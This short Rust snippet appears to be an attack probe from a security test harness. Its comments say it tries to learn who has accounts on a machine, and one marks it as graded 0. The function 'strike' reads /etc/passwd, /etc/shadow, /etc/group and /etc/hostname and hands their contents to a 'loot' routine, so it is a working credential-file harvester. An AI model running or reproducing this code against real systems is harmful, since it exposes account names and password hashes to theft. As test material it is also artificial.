//! tries: to read who has an account here
//! undefended: names and homes in the output
//! down: box
//! seen: graded 0

fn strike() {
    for path in ["/etc/passwd", "/etc/shadow", "/etc/group", "/etc/hostname"] {
        if let Ok(bytes) = std::fs::read(path) {
            let text = String::from_utf8_lossy(&bytes);
            loot(&format!("{path}: {}", text.chars().take(400).collect::<String>()));
        }
    }
}
